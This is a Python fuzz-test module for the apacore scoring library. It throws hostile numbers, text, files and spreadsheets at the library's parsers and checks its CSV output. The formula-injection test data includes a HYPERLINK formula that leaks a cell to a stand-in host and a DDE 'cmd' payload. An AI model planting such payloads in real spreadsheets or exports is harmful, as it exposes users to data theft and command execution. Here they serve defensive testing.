"""Fuzz tests of every public parser and of ``tier_score`` (issue 11, item 8).

Each call may succeed or raise one of apacore's own errors (:class:`ApacoreError`);
any other exception, a binary float anywhere in the result, or a call slower than
:data:`TIME_BOUND` fails. The inputs are hostile on purpose: numbers of thousands of
digits, exponents of millions, control characters, wrong types. A fixed seed and a
modest example count keep CI fast; ``benchmarks/fuzz.py 100000`` runs the long version.
"""

from __future__ import annotations

import datetime as dt
import os
import re
import sys
import time
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from apacore.engine.scoring import tier_score
from apacore.errors import ApacoreError
from apacore.importer import import_table
from apacore.loading.agreements import load_agreement, load_report
from apacore.numbers import parse_id, parse_reading, parse_value

TIME_BOUND = 1.0
"""Seconds one call may take (the issue's bound for a few kilobytes of input; the long
run in benchmarks/ reports calls over 0.1 s)."""

FUZZ = settings(
    max_examples=int(os.environ.get("APACORE_FUZZ_EXAMPLES", "150")),
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)

DATA = Path(__file__).resolve().parent / "data"

# --------------------------------------------------------------------------- inputs

_ALPHABET = (
    "0123456789০১২৩৪৫৬৭৮৯.,-\u2212\u2013%\u066a\uff05/=()[]+:;eE "
    "টাকাটিজনTk৳খ্রিঃস্টাব্দপ্রযোজ্য নয়n/a\t\n\r\x00\x1b\u200b\ufeff"
)
_DIGITS = st.sampled_from(["9", "৯", "0", "1,", "12,", ".5", "1.", "০,"])

hostile_text = st.one_of(
    st.text(alphabet=_ALPHABET, max_size=60),
    st.text(max_size=40),
    st.builds(lambda d, n: d * n, _DIGITS, st.integers(1, 6000)),
    st.builds(
        lambda m, e, pct: f"{m}e{e}{pct}",
        st.sampled_from(["1", "3", "5", "-5", "০"]),
        st.integers(-(10**9), 10**9),
        st.sampled_from(["", "%", "/-", " টাকা"]),
    ),
    st.builds(
        lambda n, sep, y: f"{n}{sep}{n}{sep}{y}",
        st.integers(0, 10**6),
        st.sampled_from("/.-"),
        st.integers(0, 10**8),
    ),
)
hostile_decimal = st.one_of(
    st.decimals(allow_nan=True, allow_infinity=True),
    st.builds(
        lambda digit, exp, sign: Decimal((sign, (digit,), exp)),
        st.integers(0, 9),
        st.integers(-(10**7), 10**7),
        st.integers(0, 1),
    ),
)
hostile_int = st.one_of(st.integers(), st.builds(lambda k: 10**k - 1, st.integers(0, 5000)))
hostile_value: st.SearchStrategy[Any] = st.one_of(
    hostile_text,
    hostile_decimal,
    hostile_int,
    st.none(),
    st.booleans(),
    st.floats(),
    st.dates(),
    st.datetimes(),
    st.lists(st.integers(), max_size=3),
)
hostile_tiers: st.SearchStrategy[Any] = st.one_of(
    st.lists(hostile_value, min_size=5, max_size=5),
    st.lists(st.one_of(st.integers(-100, 100), st.none()), min_size=5, max_size=5),
    st.lists(st.dates(), min_size=5, max_size=5),
    st.lists(hostile_value, max_size=7),
    st.dictionaries(st.sampled_from(["excellent", "good", "poor", "bad"]), hostile_value),
    hostile_value,
    st.builds(lambda xs: (x for x in xs), st.lists(st.integers(), max_size=5)),
)

# --------------------------------------------------------------------------- the check


def _floats(value: Any) -> Iterator[Any]:
    """Every binary float inside ``value`` (a result of apacore)."""
    if isinstance(value, float):
        yield value
    elif attrs.has(type(value)):
        for field in attrs.fields(type(value)):
            yield from _floats(getattr(value, field.name))
    elif isinstance(value, (list, tuple)):
        for item in value:
            yield from _floats(item)
    elif isinstance(value, dict):
        for item in value.values():
            yield from _floats(item)


def survives(call: Callable[[], Any], *, timed: bool = True) -> Any:
    """Run ``call``: it returns a float-free value or raises an ApacoreError, in time
    (``timed``; else its work is bounded by the test's own measure)."""
    start = time.perf_counter()
    try:
        result = call()
    except ApacoreError as exc:
        assert "\n" not in str(exc), f"a message of more than one line: {exc!r}"
        result = None
    elapsed = time.perf_counter() - start
    assert not timed or elapsed < TIME_BOUND, f"took {elapsed:.2f} s"
    assert not list(_floats(result)), f"a binary float in {result!r}"
    return result


# --------------------------------------------------------------------------- the parsers


@FUZZ
@given(hostile_value)
def test_parse_reading_and_value(value: Any) -> None:
    survives(lambda: parse_reading(value, where="cell"))
    survives(lambda: parse_value(value))


@FUZZ
@given(hostile_text)
def test_parse_id(text: str) -> None:
    survives(lambda: parse_id(text))


@FUZZ
@given(
    hostile_value,
    hostile_tiers,
    st.one_of(st.none(), st.sampled_from(["higher", "lower", "up"]), st.integers()),
    st.one_of(st.sampled_from(["linear", "step", "other"]), st.integers()),
)
def test_tier_score(achievement: Any, tiers: Any, direction: Any, policy: Any) -> None:
    result = survives(
        lambda: tier_score(achievement, tiers, direction=direction, date_policy=policy)
    )
    if result is not None:
        assert isinstance(result, Decimal) and 0 <= result <= 100


@FUZZ
@given(st.lists(st.tuples(st.integers(0, 5), hostile_value), max_size=4))
def test_tier_score_near_valid(changes: list[tuple[int, Any]]) -> None:
    """Valid tiers and achievement with a few values replaced by hostile ones."""
    values: list[Any] = [15, 30, 25, 20, 10, 5]
    for i, value in changes:
        values[i] = value
    result = survives(lambda: tier_score(values[0], values[1:]))
    if result is not None:
        assert isinstance(result, Decimal) and 0 <= result <= 100


def _toml(value: Any) -> str:
    """``value`` written as a TOML value (hostile text stays a string)."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int) and abs(value) >= 10**4000:
        return hex(value)  # str() refuses it; TOML reads hex integers of any length
    if isinstance(value, (int, Decimal)) and not isinstance(value, bool):
        text = str(value)
        return text if Decimal(value).is_finite() else "nan"
    if isinstance(value, (dt.date, dt.datetime)):
        return value.isoformat()
    if isinstance(value, list):
        return "[" + ", ".join(_toml(v) for v in value) + "]"
    if value is None:
        return '"-"'
    text = str(value)
    return (
        '"'
        + "".join(c if c.isprintable() and c not in '"\\' else f"\\u{ord(c):04x}" for c in text)
        + '"'
    )


_AGREEMENT_KEYS = ("weight = 40", "base = 200", "tiers = [100, 90, 80, 70, 60]", 'id = "1.1.1"')
_REPORT_KEYS = ('q2 = "৭৩"', "quarter = 2", 'q1 = "২৮.০৭.২৪"', 'indicator = "1.1.2"')


@FUZZ
@given(st.sampled_from(_AGREEMENT_KEYS), hostile_value, st.booleans())
def test_load_agreement(tmp_path: Path, key: str, value: Any, raw: bool) -> None:
    text = (DATA / "mini-office" / "agreement.toml").read_text("utf-8")
    name = key.split(" = ")[0]
    written = str(value) if raw and not isinstance(value, int) else _toml(value)
    new = f"{name} = {written}"
    path = tmp_path / "agreement.toml"
    path.write_text(text.replace(key, new, 1), "utf-8", errors="surrogatepass")
    survives(lambda: load_agreement(path))


@FUZZ
@given(st.sampled_from(_REPORT_KEYS), hostile_value)
def test_load_report(tmp_path: Path, key: str, value: Any) -> None:
    text = (DATA / "mini-office" / "report.toml").read_text("utf-8")
    name = key.split(" = ")[0]
    path = tmp_path / "report.toml"
    path.write_text(text.replace(key, f"{name} = {_toml(value)}", 1), "utf-8")
    survives(lambda: load_report(path))


@FUZZ
@given(st.binary(max_size=300))
def test_load_report_bytes(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "report.toml"
    path.write_bytes(data)
    survives(lambda: load_report(path))


@pytest.mark.parametrize("suffix", [".tsv", ".csv"])
@FUZZ
@given(row=st.lists(hostile_text, min_size=1, max_size=8), cut=st.booleans())
def test_import_table(tmp_path: Path, suffix: str, row: list[str], cut: bool) -> None:
    """A valid progress table with one row replaced by hostile cells."""
    source = DATA / "import" / ("progress.csv" if suffix == ".csv" else "integrity.tsv")
    lines = source.read_text("utf-8").splitlines()
    sep = "," if suffix == ".csv" else "\t"
    victim = len(lines) // 2
    lines[victim] = sep.join(row)
    if cut:
        lines = lines[: victim + 1]
    path = tmp_path / f"table{suffix}"
    path.write_text("\n".join(lines), "utf-8", errors="surrogatepass")
    result = survives(lambda: import_table(path, fiscal_year="2024-25", quarter=2))
    if result is not None:
        text = result.to_toml()
        if sys.version_info >= (3, 11):
            import tomllib
        else:  # pragma: no cover
            import tomli as tomllib

        tomllib.loads(text)  # what import writes is always valid TOML


_RULESET_KEYS = (
    "office_weight = 70",
    "rti = 3",
    "excellent = { score = 100",
    "rounding_places = 2",
)


@FUZZ
@given(st.sampled_from(_RULESET_KEYS), hostile_value)
def test_load_ruleset_dir(tmp_path_factory: pytest.TempPathFactory, key: str, value: Any) -> None:
    import shutil

    from apacore.loading.rulesets import load_ruleset_dir

    folder = tmp_path_factory.mktemp("ruleset")
    shutil.copytree(DATA.parent / "broken_rulesets" / "_valid", folder, dirs_exist_ok=True)
    path = folder / "ruleset.toml"
    name, _, rest = key.partition(" = ")
    new = f"{name} = {_toml(value)}" + (', name_bn = "x" }' if rest.startswith("{") else "")
    old = key + (', name_bn = "অসাধারণ" }' if rest.startswith("{") else "")
    path.write_text(path.read_text("utf-8").replace(old, new, 1), "utf-8")
    survives(lambda: load_ruleset_dir(folder))


_OFFICE = Path(__file__).resolve().parent / "catalogue" / "_base"
_OFFICE_KEYS = (
    ("report.toml", 'q1 = "৮"'),
    ("report.toml", 'q2 = "৩০%"'),
    ("report.toml", 'q1 = "২৮.০৭.২৪"'),
    ("agreement.toml", "tiers = [30, 25, 20, 10, 5]"),
    ("agreement.toml", "target = 100"),
)


@FUZZ
@given(st.sampled_from(_OFFICE_KEYS), hostile_value, st.sampled_from([None, 1, 2, 3, 4]))
def test_score_path(
    tmp_path_factory: pytest.TempPathFactory, place: tuple[str, str], value: Any, as_of: Any
) -> None:
    """An office scored end to end with one hostile figure: the arithmetic stays bounded."""
    import shutil

    from apacore.office import score_path

    folder = tmp_path_factory.mktemp("office")
    shutil.copytree(_OFFICE, folder, dirs_exist_ok=True)
    file, key = place
    name = key.split(" = ")[0]
    path = folder / file
    path.write_text(path.read_text("utf-8").replace(key, f"{name} = {_toml(value)}", 1), "utf-8")
    survives(lambda: score_path(folder, as_of=as_of))


# --------------------------------------------------------------------------- what apacore writes


def spreadsheet_runs(cell: str) -> bool:
    """Whether Excel, LibreOffice or Google Sheets would run ``cell`` as a formula (OWASP:
    it starts with =, +, -, @, a tab or a carriage return), a plain number aside."""
    return (
        cell[:1] in ("=", "+", "-", "@", "\t", "\r")
        and cell != "-"
        and re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?%?", cell) is None
    )


formula_text = st.one_of(
    hostile_text,
    st.builds(
        lambda lead, rest: lead + rest,
        st.sampled_from(["=", "+", "-", "@", "\t", "\r", " =", "\ufeff=", "-1+", "+1"]),
        st.sampled_from(
            ['HYPERLINK("http://x.example/?leak="&A1,"x")', "SUM(1+1)*cmd|' /C calc'!A0", "2.5", ""]
        ),
    ),
)

_RECORD: list[Any] = []


def _record() -> Any:
    """A real office's batch record (scored once), to carry hostile names."""
    if not _RECORD:
        from apacore.batch import score_office

        _RECORD.append(score_office(_OFFICE, path="office"))
    return _RECORD[0]


@FUZZ
@given(st.lists(formula_text, min_size=5, max_size=5), st.sampled_from(["en", "bn"]))
def test_no_csv_cell_a_spreadsheet_would_run(names: list[str], lang: str) -> None:
    """The batch CSV (names, folders, errors) and the scorecard CSV (names of the office's
    indicators, areas): every cell is text a spreadsheet shows; the figures stay numbers."""
    import csv
    import io

    from apacore.batch import OfficeError
    from apacore.batch.output import batch_chunks
    from apacore.batch.rollup import rank_offices

    record = attrs.evolve(_record(), path=names[0], name_bn=names[1], name_en=names[2])
    ranking = rank_offices([record], None)
    errors = [OfficeError(path=names[3], error=names[4])]
    text = "".join(batch_chunks("csv", ranking, errors, lang=lang, bom=False))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert not [cell for row in rows for cell in row if spreadsheet_runs(cell)]
    assert rows[1][11:14] == [record.total["marks"], record.total["progress_marks"], "30.00"]


@FUZZ
@given(formula_text, st.sampled_from(["en", "bn"]))
def test_no_scorecard_csv_cell_a_spreadsheet_would_run(
    tmp_path_factory: pytest.TempPathFactory, name: str, lang: str
) -> None:
    import csv
    import io
    import shutil

    from apacore.office import score_path
    from apacore.render.formats import render

    folder = tmp_path_factory.mktemp("office")
    shutil.copytree(_OFFICE, folder, dirs_exist_ok=True)
    path = folder / "agreement.toml"
    text = path.read_text("utf-8")
    for old in ('name_bn = "সমবায় গঠন"', 'name_bn = "সমিতি নিবন্ধিত"'):
        text = text.replace(old, f"name_bn = {_toml(name)}", 1)
    path.write_text(text, "utf-8")
    card = survives(lambda: score_path(folder))
    if card is None:  # a control character or an over-long name, refused at load
        return
    rows = list(csv.reader(io.StringIO(render(card, "csv", lang, bom=False), newline="")))
    assert not [cell for row in rows for cell in row if spreadsheet_runs(cell)]


# --------------------------------------------------------------------------- random sheets


@FUZZ
@given(st.randoms(use_true_random=False))
def test_import_reads_a_random_sheet_by_what_it_holds(tmp_path: Path, rng: Any) -> None:
    """A workbook of a few kilobytes whose cells and merged ranges reach as far as
    XFD1048576: the importer keeps the contract, and the rows it makes are bounded by
    the cells the sheet holds (never the grid they span), so its time is too.

    The bound is on the size of the work, not a clock: a busy machine cannot fail it,
    and benchmarks/fuzz.py measures what that work costs at apacore's limits."""
    from apacore.importer.xlsx import read_workbook
    from tests.sheets import random_sheet, xlsx

    sheet = random_sheet(rng)
    path = tmp_path / "progress.xlsx"
    path.write_bytes(xlsx(sheet))
    assert path.stat().st_size < 1_000_000
    survives(lambda: import_table(path, fiscal_year="2024-25", quarter=2), timed=False)
    segments = survives(lambda: read_workbook(path), timed=False)
    if segments is None:  # refused with one line (beyond a limit)
        return
    rows, width = sheet.extent
    made = [row for _title, sheet_rows, _hidden in segments for row in sheet_rows]
    assert sum(len(cells) for _line, cells, _flaws in made) <= rows * width
    assert len(made) <= 2 * rows
    flaws = sum(len(row_flaws) for _line, _cells, row_flaws in made)
    assert flaws <= len(sheet.cells) + len(sheet.merged) * rows * width
